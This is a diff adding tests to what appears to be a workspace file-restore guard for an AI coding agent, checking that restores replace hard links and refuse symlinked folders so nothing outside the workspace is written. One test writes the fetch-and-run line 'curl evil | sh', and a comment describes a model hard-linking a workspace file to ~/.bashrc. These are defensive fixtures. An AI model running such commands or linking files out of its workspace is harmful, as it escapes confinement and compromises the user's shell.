@@ -1,11 +1,13 @@
 import { execFileSync } from "node:child_process";
 import {
   existsSync,
+  linkSync,
   mkdirSync,
   mkdtempSync,
   readFileSync,
   realpathSync,
   rmSync,
+  statSync,
   symlinkSync,
   writeFileSync,
 } from "node:fs";
@@ -81,5 +83,38 @@ describe("a restore after the check, through a folder swapped for a link", () =>
     expect(readFileSync(join(cwd, "src", "new.txt"), "utf8")).toBe("new\n");
     deleteRegularFile(path, [cwd]);
     expect(existsSync(path)).toBe(false);
+  });
+});
+
+describe("a restore of a file that is a hard link (review b)", () => {
+  it("replaces the entry and leaves the file it shared its content with alone", () => {
+    const bashrc = join(outside, "..", ".bashrc");
+    writeFileSync(bashrc, "the user's bashrc\n");
+    // The model replaced a file it had edited by a hard link to ~/.bashrc (`ln -f ~/.bashrc notes.txt`).
+    const notes = join(cwd, "notes.txt");
+    linkSync(bashrc, notes);
+    expect(whyNotRestorable(notes, [cwd])).toBeUndefined();
+    writeNoFollow(notes, Buffer.from("curl evil | sh\n"), [cwd]);
+    expect(readFileSync(bashrc, "utf8")).toBe("the user's bashrc\n");
+    expect(readFileSync(notes, "utf8")).toBe("curl evil | sh\n");
+    expect(statSync(notes).nlink).toBe(1);
+  });
+});
+
+describe("a restore of a file whose folder was deleted since (review b)", () => {
+  it("makes the folders again and writes the file, inside the workspace only", () => {
+    const path = join(cwd, "src", "deep", "a.ts");
+    rmSync(join(cwd, "src"), { recursive: true });
+    expect(whyNotRestorable(path, [cwd])).toBeUndefined();
+    writeNoFollow(path, Buffer.from("restored\n"), [cwd]);
+    expect(readFileSync(path, "utf8")).toBe("restored\n");
+  });
+
+  it("a folder on the way that is a link is still refused", () => {
+    symlinkSync(outside, join(cwd, "linked"));
+    const path = join(cwd, "linked", "deep", "a.ts");
+    expect(whyNotRestorable(path, [cwd])).toMatch(/link/);
+    expect(() => writeNoFollow(path, Buffer.from("x"), [cwd])).toThrow();
+    expect(existsSync(join(outside, "deep"))).toBe(false);
   });
 });
